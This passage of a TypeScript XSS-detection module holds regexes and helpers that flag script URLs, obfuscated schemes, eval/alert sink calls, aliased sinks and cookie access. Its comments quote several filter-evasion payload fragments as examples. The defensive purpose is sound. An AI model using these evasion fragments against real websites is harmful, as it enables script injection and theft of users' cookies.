    if (name === 'type' && a.value !== null && DATA_BLOCK_TYPE.test(decodeEntities(a.value))) typed = true;
    else if (name !== 'id' && name !== 'class' && name !== 'nonce' && !name.startsWith('data-')) return -1;
  }
  if (!typed) return -1;
  SCRIPT_CLOSE.lastIndex = tag.end;
  const close = SCRIPT_CLOSE.exec(s);
  if (close === null || close.index - tag.end > 65536) return -1;
  return s.indexOf('<', tag.end) === close.index ? close.index + close[0].length - 1 : -1;
}

/** `url(https://...)`, `url('/img/a.png')`: an image or font by a plain link, with nothing that ends the CSS value early. */
const PLAIN_CSS_URL = /url\(\s*(['"]?)(?:https?:\/\/[\w.-]+)?\/(?!\/)[\w.~%/-]*(?:\?[\w.=&%-]*)?\1\s*\)/gi;

/**
 * A script scheme spelled with character references or broken by tabs and line breaks
 * (`ja&tab;vascript:`, `&#106;avascript:`, `v&newline;b&tab;script&colon;`, once decoded `v\nb\tscript:`):
 * the browser decodes them and drops tabs and line breaks inside a URL, and no one but a filter's
 * evader writes a scheme so; the code after it need not be there yet.
 */
function isSpelledScriptScheme(s: string): boolean {
  const asUrl = (v: string): string =>
    v
      .replace(/[\t\n\r]+/g, '')
      .replace(/^[\x00-\x20]+/, '')
      .toLowerCase();
  const scheme = /^(?:javascript|vbscript):/;
  return scheme.test(asUrl(decodeEntities(s))) && !scheme.test(s.replace(/^[\x00-\x20]+/, '').toLowerCase());
}

const SCRIPT_ESCAPE = /\\(?:u[0-9a-f]{4}|x[0-9a-f]{2}|[\\tnr])/i;

function isScriptUrl(v: string): boolean {
  const t = compact(decodeEntities(v)).toLowerCase();
  return (
    /^(?:javascript|vbscript|livescript|mocha|mhtml):/.test(t) ||
    /^data:(?:text\/html|image\/svg|application\/x-javascript|text\/javascript)/.test(t)
  );
}

/** Without whitespace, control characters and the BOM, which browsers skip inside a scheme. */
function compact(v: string): string {
  return v.replace(/[\s\x00-\x1f\ufeff]+/g, '');
}

/**
 * Calls of the functions payloads use, case-sensitive like JavaScript itself (`Function(` is the
 * constructor, "function(" is not): direct, parenthesised `(alert)(1)`, optional `alert?.()`,
 * tagged templates `` alert`1` `` and `.call/.apply/.bind`. Timers and the Function constructor
 * only with code as a string or decoded from one (`Function(atob('...'))`; `setTimeout(resolve, 10)`
 * is ordinary code). The name starts where JavaScript's identifiers start: a letter of any script
 * before it makes a longer name (`оalert(` with a Cyrillic "о" is a call of `оalert`, CRS 941310-8/9's
 * UTF-8 text).
 */
const SINK_CALL =
  /(?:^|[^\p{ID_Continue}$.\u200c\u200d])(?:(?:alert|confirm|prompt|eval|execScript)\)?(?:\?\.)?(?:\((?!\s*$)|`[^`\s][^`\n]{0,40}`|\.(?:call|apply|bind)\()|(?:setTimeout|setInterval|Function)\s*\(\s*(?:['"`]|(?:atob|unescape|decodeURI(?:Component)?|(?:String\s*\.\s*)?fromCharCode)\s*\())/u;
/**
 * Script reaching the page's secrets or navigating it. Not an assignment of one quoted path of the
 * site (`window.location.href = "/thanks";`, in CSP reports' script samples and developers'
 * questions): a break-out, `//host`, `/\host` or anything joined to the string still counts.
 */
const DOM_ACCESS =
  /\.\s*(?:call|apply)\s*`|\bdocument\s*\)?\s*(?:\.\s*(?:cookie|domain|write|location)\b|\[\s*["'`](?:cookie|domain|write|location))|\bString\s*\.\s*fromCharCode\s*\(|\bwindow\s*\.\s*location(?:\s*\.\s*href)?\s*=(?!\s*(["'])\/(?![/\\])[^"'\\\n<]{0,200}\1\s*(?:[;}\n]|$))|\.constructor\s*\(\s*["'`]|\b(?:top|self|parent|window)\s*\[\s*["'`][\w$\\]+["'`]\s*(?:\+|\])/i;

function scriptCode(s: string): boolean {
  return sinkCallIn(s) || DOM_ACCESS.test(s) || isTaglessScript(s);
}

/**
 * A sink call that JavaScript could run: not one named in prose after a word on the same line
 * ("use alert() for debugging", "avoid eval() here"). Two names side by side on one line are a
 * syntax error, so such a call never runs, unless the word is a keyword that takes an expression
 * (`void alert(1)`, `return eval(x)`, `new Function('...')`). docs/detection.md, branch i18-fp15.
 */
const SINK_CALL_ALL = new RegExp(SINK_CALL.source, 'gu');
const WORD_BEFORE = /(?:^|[^\w$.\\])([A-Za-z]\w*)[ \t]+$/;
/**
 * A Markdown heading's marker (one to six `#` and a blank at the start of a line: `### confirm(message,
 * [initial])` in a README's API list): the call is the heading's text. JavaScript has no `#`
 * before a blank (only `#name` private fields and a `#!` first line), so a call after it never runs.
 */
const HEADING_MARKER = /(?:^|\n)[ ]{0,3}#{1,6}[ \t]+$/;
const EXPRESSION_KEYWORDS = new Set(
  'return typeof void delete new await yield throw case in of instanceof else do extends'.split(' '),
);
/**
 * An argument list with what JavaScript has nowhere outside a string, before its first quote or
 * `)`: a backslash that begins no `\u` escape, or a character outside ASCII that is neither a
 * name's letter nor a blank (`¢`, a curly quote). `alert(Â¢XSSÂ¢)` (CRS 941310-8/9's UTF-8 text
 * `\xc2\xa2XSS\xc2\xa2` read as escapes) and `alert(‘1’)` run nothing: each is a syntax error.
 */
const NO_SCRIPT_ARGUMENT = /^[^)'"`]{0,100}?(?:\\(?!u)|(?![\p{ID_Continue}\s])[^\0-\x7f])/u;
function sinkCallIn(s: string): boolean {
  if (!SINK_CALL.test(s)) return false;
  SINK_CALL_ALL.lastIndex = 0;
  for (let m: RegExpExecArray | null; (m = SINK_CALL_ALL.exec(s)) !== null;) {
    // The match may begin with the character before the name; the word is read before the name.
    const at = /[\w$]/.test(m[0][0]) ? m.index : m.index + 1;
    const before = s.slice(Math.max(0, at - 40), at);
    if (HEADING_MARKER.test(before)) continue;
    if (NO_SCRIPT_ARGUMENT.test(s.slice(m.index + m[0].length, m.index + m[0].length + 100))) continue;
    const word = WORD_BEFORE.exec(before)?.[1];
    if (word !== undefined && !EXPRESSION_KEYWORDS.has(word)) continue;
    if (!isFollowedByWords(s, m.index + m[0].length - 1)) return true;
  }
  return false;
}

/**
 * A sink call followed on its line by words JavaScript cannot read after an expression ("eval()
 * is evil", "alert() in chrome extension"): no semicolon is inserted without a line break, so
 * after a call's `)` only an operator may follow on the line, and a name there is a syntax error
 * that stops the whole script (or handler) before anything in it runs. `in` and `instanceof` are
 * operators: they are read past with one plain operand (`alert(1) in x` runs; `alert() in chrome
 * extension` does not). Only blanks and tabs separate (U+2028 ends a line). docs/detection.md,
 * branch i18-fp17.
 */
const OPERATOR_WORDS = /^[ \t]+(?:in|instanceof)[ \t]+([A-Za-z_$][\w$]*)(?=[ \t])/;
const NAME_AFTER_CALL = /^[ \t]+([A-Za-z_$][\w$]*)/;
function isFollowedByWords(s: string, open: number): boolean {
  if (s[open] !== '(') return false;
  const close = closingParen(s, open);
  if (close < 0) return false;
  let rest = s.slice(close + 1, close + 1 + SINK_ARGUMENTS_MAX);
  const operand = OPERATOR_WORDS.exec(rest);
  if (operand !== null) {
    if (EXPRESSION_KEYWORDS.has(operand[1])) return false;
    rest = rest.slice(operand[0].length);
  }
  const name = NAME_AFTER_CALL.exec(rest)?.[1];
  return name !== undefined && name !== 'in' && name !== 'instanceof';
}

/**
 * How many characters a sink call's arguments are read for their closing `)` (a fixed bound of
 * this one check, docs/detection.md "Limits"): a longer or unclosed argument list is taken as a
 * call that could run.
 */
const SINK_ARGUMENTS_MAX = 200;
/**
 * The index of the `)` closing the `(` at `open` on the same line, skipping quoted strings, or -1
 * when the line, the value or SINK_ARGUMENTS_MAX ends first.
 */
function closingParen(s: string, open: number): number {
  let depth = 0;
  let quote = '';
  const end = Math.min(s.length, open + SINK_ARGUMENTS_MAX);
  for (let i = open; i < end; i++) {
    const c = s[i];
    if (c === '\n' || c === '\r' || c === '\u2028' || c === '\u2029') return -1;
    if (quote !== '') {
      if (c === '\\') i++;
      else if (c === quote) quote = '';
    } else if (c === "'" || c === '"' || c === '`') quote = c;
    else if (c === '(') depth++;
    else if (c === ')' && --depth === 0) return i;
  }
  return -1;
}

/**
 * A sink function given another name, then called by it (`a=eval;b=alert;a(b(...))`,
 * `document.__parent__._=alert\n_(1)`, `top.__proto__._= alert\n_(1)`): the filter sees no `alert(`;
 * JavaScript calls the same function. The alias is the last part of the assigned name.
 */
const SINK_WORD = /\b(?:alert|confirm|prompt|eval|execScript)\b/;
const SINK_ALIAS = /(?:^|[^\w$.])([\w$]+(?:\s*\.\s*[\w$]+){0,4})\s*=\s*(?:alert|confirm|prompt|eval|execScript)\s*(?=[;,\n)]|$)/g;
function isAliasedSinkCall(s: string): boolean {
  SINK_ALIAS.lastIndex = 0;
  let m: RegExpExecArray | null;
  for (let n = 0; (m = SINK_ALIAS.exec(s)) !== null && n < 8; n++) {
    const alias = m[1].slice(m[1].lastIndexOf('.') + 1).trim();
    const rest = s.slice(m.index + m[0].length);
    // The member called by its whole name (`o.x=alert;o.x(1)`).
    const member = m[1].replace(/\s+/g, '');
    if (member !== alias && rest.replace(/\s+/g, '').includes(member + '(')) return true;
    // The alias called (`_(1)`, `a(b(...))`), not a longer name that ends with it.
    for (let at = rest.indexOf(alias); at >= 0; at = rest.indexOf(alias, at + 1)) {
      const before = rest.charCodeAt(at - 1);
      const word = at > 0 && (isNameChar(before) || before === 0x2e);
      if (!word && /^\s*\(/.test(rest.slice(at + alias.length, at + alias.length + 8))) return true;
    }
  }
  return false;
}

function isNameChar(c: number): boolean {
  return (c >= 0x30 && c <= 0x39) || ((c | 0x20) >= 0x61 && (c | 0x20) <= 0x7a) || c === 0x5f || c === 0x24;
}

const EVENTS = new Set(
  `abort activate afterprint afterscriptexecute animationcancel animationend
  animationiteration animationstart auxclick beforeactivate beforecopy beforecut beforedeactivate
  beforeinput beforepaste beforeprint beforescriptexecute beforetoggle beforeunload begin blur bounce
  canplay canplaythrough change click close contextmenu copy cuechange cut dblclick drag dragend
  dragenter dragexit dragleave dragover dragstart drop durationchange end ended error filterchange
  finish focus focusin focusout formdata fullscreenchange hashchange input invalid keydown keypress
  keyup load loadeddata loadedmetadata loadend loadstart message mousedown mouseenter mouseleave
  mousemove mouseout mouseover mouseup mousewheel move pagehide pageshow paste pause play playing
  pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover
  pointerrawupdate pointerup popstate progress propertychange ratechange readystatechange repeat
  reset resize scroll scrollend search seeked seeking select selectionchange selectstart show start
  stalled submit suspend timeupdate toggle touchend touchmove touchstart transitioncancel
  transitionend transitionrun transitionstart unload volumechange waiting webkitanimationend
  webkitanimationiteration webkitanimationstart webkittransitionend wheel`.split(/\s+/),
);

/** Tags every page has: their names are signals; any other name is `other`. */
const COMMON_TAGS = new Set(
  'a img svg div body input form button textarea details video audio source select option table td p span br hr html head title marquee math video isindex keygen'.split(
    ' ',
  ),
);
/**
 * Words of the browser's scripting API (the DOM, globals, sinks and sources), read as signals when
 * they stand as whole words.
 */
const SCRIPT_WORDS = new Set(
  `self top parent frames opener globalThis this location domain referrer name hash search href
  write writeln src source import prototype call apply bind open fetch navigator with Execute
  expression textContent String`.split(/\s+/),
);
/** Words only scripts name (the DOM's sinks, sources and encoders): evidence (scoring.ts). */
const SCRIPT_EVIDENCE_WORDS = new Set(
  `document window cookie alert prompt confirm eval Function constructor setTimeout setInterval
  execScript atob btoa unescape fromCharCode innerHTML outerHTML createElement appendChild
  insertAdjacentHTML querySelector getElementById getElementsByTagName __proto__ XMLHttpRequest
  sendBeacon postMessage localStorage sessionStorage MsgBox javascript vbscript`.split(/\s+/),
);
const SCRIPT_WORD = /[A-Za-z_$][\w$]*/g;
const SCRIPT_SHAPES: Array<[string, RegExp]> = [
  ['call', /[\w$]\s*\(/],
  // A property computed from strings or expressions then called (`top['al'+'ert'](1)`), not a Markdown link `[text](url)`.
  // (`[!` only as JSFuck's coercions `[!![]`, `[![]+`, `[!+`: a Markdown image link is `[![alt](src)](href)`, `[![](src)](href)`.)
  ['!bracket-call', /\[\s*(?:['"`(+]|!(?:!|\+|\[\](?!\())|[\w$.]+\s*\+)[^\]\n]{0,80}\]\s*\(/],
  // A tagged template (`` alert`1` ``) glued to its name; not a Markdown code span or fence after text.
  ['!template-call', /[\w$)]`(?!`)[^`\n]{1,40}`/],
  ['member-assign', /[\w$\]]\s*\.\s*[\w$]+\s*=(?!=)/],
  ['assign-then-call', /[\w$]\s*=\s*[\w$.]+\s*[;,\n][^]{0,200}[\w$]\s*\(/],
  ['line-comment', /\/\/[^\n]{0,30}$/],
  ['block-comment', /\/\*/],
  ['html-comment', /<!--|-->/],
  ['statement', /;\s*[\w$]/],
  ['!regex-source', /\/\w{1,12}\/\s*\.\s*source/],
  ['js-escape', /\\(?:u00[0-9a-f]{2}|x[0-9a-f]{2})/i],
  ['entity', /&#x?[0-9a-f]{1,7}/i],
  ['numeric-host', /\/\/(?:\d{6,}|0x[0-9a-f]+|\d+\.\d+\.\d+\.\d+)(?:[/:?#"']|$)/i],
  ['script-word-glued', /script|alert|onerror|onload/i],
];

/**
 * The weak signals of script in a value, for the learned score (scoring.ts): which characters of
 * markup and script it has, what it opens with (a quote or `>` that closes an attribute or tag),
 * the tags it holds (common ones by name) and their attributes (handlers, URL attributes and what
 * their URLs are), the scripting API words it names, and the shapes of script (calls, calls
 * through brackets or templates, assignments to members, comments, statements, escapes). With
 * `onlyWithEvidence` (detection), a value that cannot have an evidence signal gives none.
 */
export function xssSignals(value: string, onlyWithEvidence = false): string[] {
  if (onlyWithEvidence && !mayHaveScriptEvidence(value)) return [];
  const out = new Set<string>();
  let chars = '';
  for (const c of '<>"\'(=`;/') if (value.includes(c)) chars += c;
  out.add('chars:' + chars);
  const start = /^\s*([<>"'`;)]{1,2})/.exec(value);
  if (start) out.add('opens:' + start[1]);
  tagSignals(value, out);
  SCRIPT_WORD.lastIndex = 0;
  let m: RegExpExecArray | null;
  for (let words = 0; (m = SCRIPT_WORD.exec(value)) !== null && words < 256; words++) {
    const word = m[0];
    if (!SCRIPT_EVIDENCE_WORDS.has(word) && !SCRIPT_WORDS.has(word)) continue;
    // Glued to a number (`1alert(1)`) it is no name: JavaScript reads no identifier right after a numeric literal.
    if (m.index > 0 && isDigit(value.charCodeAt(m.index - 1))) continue;
    // As code, a name is reached (`.cookie`) or used (`document.`, `alert(`, `eval=`, `top[`); in text it is a word ("this document").
    const used = isCodeUse(value, m.index, m.index + word.length);
    out.add((used && SCRIPT_EVIDENCE_WORDS.has(word) ? '!word:' : used ? 'word:' : 'text:') + word);
  }
  for (const [name, re] of SCRIPT_SHAPES) if (re.test(value)) out.add(name);
  return [...out];
}

/** What every evidence signal needs (a name of SCRIPT_EVIDENCE_WORDS as written, `]`, a backtick, a handler, a URL or CSS value). */
const EVIDENCE_WORD_HINT = new RegExp([...SCRIPT_EVIDENCE_WORDS].join('|'));
const EVIDENCE_MARK_HINT = /[\]`]|source|on[a-z]{3,30}\s*=|url\s*\(|expression|binding/i;
/**
 * Whether the value can have an evidence signal at all (scoring.ts: without one the score cannot
 * fire): one search for what each evidence signal needs, before reading tags and words.
 */
function mayHaveScriptEvidence(value: string): boolean {
  if (EVIDENCE_MARK_HINT.test(value) || EVIDENCE_WORD_HINT.test(value)) return true;
  // A script URL in an attribute: a `:` (or an entity for one) after an `=`.
  const eq = value.indexOf('=');
  return eq >= 0 && /[:&]/.test(value.slice(eq + 1));
}

function isDigit(c: number): boolean {
  return c >= 0x30 && c <= 0x39;
}

/** The word at [from, end) is reached as a member or followed by what code does with a name. */
function isCodeUse(value: string, from: number, end: number): boolean {
  let before = from - 1;
  while (before >= 0 && value.charCodeAt(before) === 0x20) before--;
  if (value[before] === '.') {
    // A member of an operand (`x.alert`, `document . cookie`), not a sentence's full stop: `. alert`
    // opening a value has no operand, `end. alert` is a word, its stop and a space.
    const spaceAfterDot = before < from - 1;
    let operand = before - 1;
    while (operand >= 0 && value.charCodeAt(operand) === 0x20) operand--;
    if (operand >= 0 && /[\w$)\]'"`]/.test(value[operand]) && (!spaceAfterDot || operand < before - 1)) return true;
  }
  let after = end;
  while (after < value.length && value.charCodeAt(after) === 0x20) after++;
  const next = value[after];
  return next === '.' || next === '(' || next === '[' || next === '`' || (next === '=' && value[after + 1] !== '=');
}

const MAX_SIGNAL_TAGS = 16;

function tagSignals(value: string, out: Set<string>): void {
  let tags = 0;
  for (let lt = value.indexOf('<'); lt >= 0 && tags < MAX_SIGNAL_TAGS; lt = value.indexOf('<', lt + 1)) {
    const tag = readTagAt(value, lt);
    if (tag === null) continue;
    tags++;
    const name = tag.name.includes(':') ? 'ns:' + tag.name.slice(tag.name.lastIndexOf(':') + 1) : tag.name;
    const known = SCRIPT_TAGS.has(name) || COMMON_TAGS.has(name) ? name : 'other';
    out.add((tag.closing ? 'close:' : 'tag:') + known);
    if (tag.end >= value.length && !value.endsWith('>')) out.add('tag-unclosed');
    for (const a of tag.attrs.slice(0, 16)) attributeSignals(a, out);
  }
  if (tags === 0) {
    const sp = value.search(/["'`\s/]/);
    if (sp >= 0) for (const a of readAttributes(value, sp + 1).attrs.slice(0, 8)) attributeSignals(a, out);
  }
}

function attributeSignals(a: HtmlAttr, out: Set<string>): void {
  const name = a.name.replace(/^[^a-z]+/, '');
  // A handler needs its code: `onload` alone is a word.
  if (name.length > 2 && name.startsWith('on') && a.value !== null)
    out.add(EVENTS.has(name.slice(2)) ? '!attr:event' : 'attr:on');
  else if (URL_ATTRS.has(name) || name === 'style' || name === 'srcdoc' || name === 'xmlns') out.add('attr:' + name);
  if (a.value === null) return;
  if (isScriptLink(a.value)) out.add('!value:script-url');
  else if (/^\s*(?:[a-z]+:)?\/\//i.test(a.value)) out.add('value:absolute-url');
  if (CSS_VALUE_CODE.test(a.value.replace(PLAIN_CSS_URL, ''))) out.add('!value:css-code');
}

/** CSS in an attribute that runs or loads something: not a plain `url(` of a page or a site path (an editor's background image). */
const CSS_VALUE_CODE = /url\s*\(|expression|binding/i;
